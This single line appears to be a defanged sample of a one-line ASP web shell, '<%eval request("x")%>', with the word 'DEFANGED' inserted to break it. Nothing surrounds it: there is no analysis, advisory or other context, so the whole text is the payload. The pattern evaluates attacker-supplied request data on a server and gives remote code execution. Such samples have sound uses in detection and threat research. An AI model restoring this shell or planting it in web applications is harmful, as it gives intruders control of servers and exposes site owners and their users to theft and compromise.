<%eval request(DEFANGED "x")%>
